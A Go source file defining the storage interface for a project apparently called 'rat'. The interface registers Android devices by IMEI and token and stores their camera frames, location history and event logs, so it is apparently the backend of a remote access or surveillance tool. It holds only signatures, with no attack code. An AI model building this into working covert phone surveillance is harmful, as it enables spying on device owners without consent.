package storage

import (
	"context"

	"github.com/Sp1ker2/rat/internal/model"
)

// DeviceAttrs are the optional descriptive fields of a device profile.
// Empty/zero fields are ignored on update.
type DeviceAttrs struct {
	IMEI           string
	Model          string
	Manufacturer   string
	AndroidVersion string
	SDK            int
}

// Store is the durable record store the hub and handlers write through.
// There is exactly one implementation per backend; everything above it is
// parameterized over this interface.
type Store interface {
	CreateDevice(ctx context.Context, id, name, token string, attrs DeviceAttrs) (*model.Device, error)
	GetDevice(ctx context.Context, id string) (*model.Device, error)
	GetDeviceByToken(ctx context.Context, token string) (*model.Device, error)
	UpdateDevice(ctx context.Context, id string, name string, attrs DeviceAttrs) (*model.Device, error)
	UpdateDeviceToken(ctx context.Context, id, token string) (*model.Device, error)
	ListDevices(ctx context.Context) ([]model.Device, error)

	SaveCameraFrame(ctx context.Context, deviceID, camera string, data []byte, width, height int, timestamp int64) (*model.CameraFrame, error)
	GetLatestFrame(ctx context.Context, deviceID, camera string) (*model.CameraFrame, error)
	GetFrameHistory(ctx context.Context, deviceID, camera string, limit, offset int) ([]model.CameraFrame, error)

	SaveLocation(ctx context.Context, deviceID string, lat, lon float64, accuracy *float64, timestamp int64) (*model.LocationHistory, error)
	GetLocationHistory(ctx context.Context, deviceID string, limit, offset int) ([]model.LocationHistory, error)

	LogDeviceEvent(ctx context.Context, deviceID, eventType string, eventData map[string]any, timestamp int64) (*model.DeviceEvent, error)
	GetDeviceEvents(ctx context.Context, deviceID, eventType string, limit, offset int) ([]model.DeviceEvent, error)
}
